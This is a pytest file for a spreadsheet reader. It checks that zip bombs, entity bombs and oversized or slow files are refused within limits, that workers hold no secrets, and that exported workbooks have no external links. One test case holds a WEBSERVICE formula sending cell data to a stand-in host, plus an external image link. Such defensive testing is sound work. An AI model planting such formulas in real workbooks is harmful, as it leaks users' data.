"""Hostile files are refused within limits of time and memory; the next file is read."""

import io
import json
import resource
import subprocess
import sys
import threading
import time
import tomllib
import zipfile
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

import openpyxl
import pytest

from checks import catalogue
from checks.russian import NBSP
from etl import marked
from etl.reader import Table, content_of, isolated, limits, read
from etl.reader.limits import Unreadable
from tests.examples import hostile
from tests.examples.files import xlsx_file
from tests.examples.rows import VALID
from warehouse.store import fair_queue

MOST_SECONDS = 20
"""Alone none takes four; here other tests run beside."""
MOST_MEMORY = 700 * 2**20


def opened(data: bytes) -> Table:
    return read(data, "файл", catalogue.headers(), catalogue.required())


def an_honest_workbook_is_read() -> bool:
    return opened(xlsx_file("organizations", [VALID["organizations"]])).frame.height == 1


@pytest.mark.parametrize(
    ("make", "rule"),
    [
        (hostile.far_cell_plainly_written, "too_vast"),
        (hostile.far_row, "too_vast"),
        (hostile.far_cell_written_otherwise, "too_heavy"),
        (hostile.far_cell_in_other_quotes, "too_heavy"),
        (hostile.far_cell_with_a_prefix, "too_heavy"),
        (hostile.far_cell_without_address, "too_heavy"),
        (hostile.one_text_in_every_cell, "too_heavy"),
        (hostile.entity_bomb, "damaged"),
        (hostile.foreign_entity, "damaged"),
        (hostile.many_sheets, "too_many_sheets"),
        (hostile.many_parts, "zip_bomb"),
        (hostile.overlapping_parts, "zip_bomb"),
        (hostile.wide_text, "too_wide"),
        (hostile.one_long_line, "too_long_row"),
        (hostile.one_long_quoted_cell, "too_long_row"),
        (hostile.empty_lines, "too_long"),
    ],
)
def test_what_would_harm_is_refused_in_words(make: Callable[[], bytes], rule: str) -> None:
    data = make()
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
    began = time.monotonic()
    with pytest.raises(Unreadable) as caught:
        opened(data)
    assert caught.value.rule == rule
    assert caught.value.message.endswith(".")
    assert "root:" not in caught.value.message
    assert time.monotonic() - began < MOST_SECONDS
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024 - before < MOST_MEMORY
    assert an_honest_workbook_is_read()


@pytest.mark.parametrize(
    "make",
    [
        hostile.stated_size,
        hostile.merged_everywhere,
        hostile.deep_elements,
        hostile.nested_archive,
        hostile.stray_quotes,
    ],
)
def test_what_only_looks_harmful_is_read(make: Callable[[], bytes]) -> None:
    data = make()
    began = time.monotonic()
    assert opened(data).is_table
    assert time.monotonic() - began < MOST_SECONDS


def test_reading_ends_after_its_time(monkeypatch: pytest.MonkeyPatch) -> None:
    data = hostile.endless_pattern()
    an_honest_workbook_is_read()
    monkeypatch.setattr(limits, "SECONDS", 1)
    with pytest.raises(Unreadable) as caught:
        opened(data)
    assert caught.value.rule == "too_slow"
    monkeypatch.undo()
    assert an_honest_workbook_is_read()


ORPHANED = """
import os, signal, threading, time
from etl.reader import isolated, limits

limits.seconds_for = lambda size: 1
isolated.warm_up()
print(isolated._idle[0]._process.pid, flush=True)
threading.Thread(target=isolated.run, args=(time.sleep, 600), daemon=True).start()
time.sleep(0.5)
os.kill(os.getpid(), signal.SIGKILL)
"""


def test_reading_ends_though_the_server_was_killed() -> None:
    """Else a file that is never read to its end keeps a processor for ever."""
    killed = subprocess.run(
        [sys.executable, "-c", ORPHANED], stdout=subprocess.PIPE, text=True, timeout=60, check=False
    )
    reader = Path(f"/proc/{killed.stdout.strip()}/stat")
    end = time.monotonic() + MOST_SECONDS
    with suppress(FileNotFoundError):
        while reader.read_text().rpartition(")")[2].split()[0] != "Z":
            assert time.monotonic() < end
            time.sleep(0.2)


def test_a_small_file_gets_little_time_and_a_large_one_more() -> None:
    assert [limits.seconds_for(size) for size in (100, 2**20, 20 * 2**20, 100 * 2**20)] == [15, 17, 55, 60]
    assert f"дольше 17{NBSP}секунд" in limits.too_slow(2**20).message


def test_files_of_one_person_are_read_one_by_one_and_those_of_others_meanwhile(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "SHORTEST_SECONDS", 3)
    slow = hostile.endless_pattern()
    quick = xlsx_file("organizations", [VALID["organizations"]])
    log: list[str] = []

    def of(person: str, data: bytes) -> None:
        fair_queue.whose.set(person)
        with suppress(Unreadable):
            opened(data)
        log.append(person)

    an_honest_workbook_is_read()
    busy = [threading.Thread(target=of, args=("busy", slow)) for _ in range(3)]
    for one in busy:
        one.start()
    time.sleep(0.5)
    honest = threading.Thread(target=of, args=("honest", quick))
    honest.start()
    for one in (*busy, honest):
        one.join(60)
    # Two at once, as without turns, would let two slow files end first.
    assert log.index("honest") < 2


def test_a_file_of_the_disk_is_not_read_beyond_its_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "FILE_BYTES", 1000)
    assert len(content_of(Path("/dev/zero"))) == 1001
    file = tmp_path / "большой.csv"
    file.write_bytes(b"a;b\n" * 1000)
    with pytest.raises(Unreadable, match="Разделите") as caught:
        read(file, file.name, catalogue.headers(), catalogue.required())
    assert caught.value.rule == "too_big"


def test_the_page_takes_no_file_that_the_reader_refuses() -> None:
    config = tomllib.loads(Path(".streamlit/config.toml").read_text(encoding="utf-8"))
    assert config["server"]["maxUploadSize"] * 2**20 <= limits.FILE_BYTES


def test_the_other_process_has_no_secret_and_tells_none(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RSNMS_KEY", "сорок тысяч обезьян")
    isolated._end_all()
    script = "import os, sys; sys.stdout.write(' '.join(os.environ))"
    assert b"RSNMS" not in isolated.run(subprocess.check_output, [sys.executable, "-c", script])
    with pytest.raises(isolated.Failed) as caught:
        isolated.run(json.loads, "112-233-445 95")
    assert str(caught.value).startswith("JSONDecodeError, decoder.py:")


def test_a_process_that_somebody_killed_is_replaced() -> None:
    an_honest_workbook_is_read()
    for worker in isolated._idle:
        worker._process.kill()
        worker._process.wait()
    assert an_honest_workbook_is_read()


def with_part(name: str, body: str) -> bytes:
    content = xlsx_file("training", [VALID["training"]])
    target = io.BytesIO(content)
    with zipfile.ZipFile(target, "a") as archive:
        archive.writestr(name, body)
    return target.getvalue()


def with_formula(formula: str) -> bytes:
    book = openpyxl.load_workbook(io.BytesIO(xlsx_file("training", [VALID["training"]])))
    book.worksheets[0]["Z1"] = formula
    target = io.BytesIO()
    book.save(target)
    return target.getvalue()


_IMAGE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
    'Target="http://example.com/pixel.png" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    "content",
    [
        with_part("xl/externalLinks/externalLink1.xml", "<externalLink/>"),
        with_part("xl/connections.xml", "<connections/>"),
        with_part("xl/embeddings/oleObject1.bin", "x"),
        with_part("xl/drawings/_rels/drawing1.xml.rels", _IMAGE),
        with_formula('=WEBSERVICE("http://example.com/"&A1)'),
        with_formula('=HYPERLINK("http://example.com/","Итог")'),
    ],
    ids=["link", "connection", "embedded", "picture", "webservice", "hyperlink"],
)
def test_the_marked_workbook_reaches_nowhere(content: bytes) -> None:
    table = read(content, "файл", catalogue.headers(), catalogue.required(), "training")
    result = marked.mark(content, "файл.xlsx", table, "training", [])
    with zipfile.ZipFile(io.BytesIO(result)) as archive:
        assert sorted(name.split("/")[1] for name in archive.namelist() if name.startswith("xl/")) == [
            "_rels", "styles.xml", "workbook.xml", "worksheets", "worksheets",
        ]  # fmt: skip
        assert not any(b"example.com" in archive.read(name) for name in archive.namelist() if name.endswith(".rels"))
        assert not any(b"<f>" in archive.read(name) for name in archive.namelist())
    again = read(result, "файл", catalogue.headers(), catalogue.required(), "training")
    assert again.frame.height == table.frame.height == 1
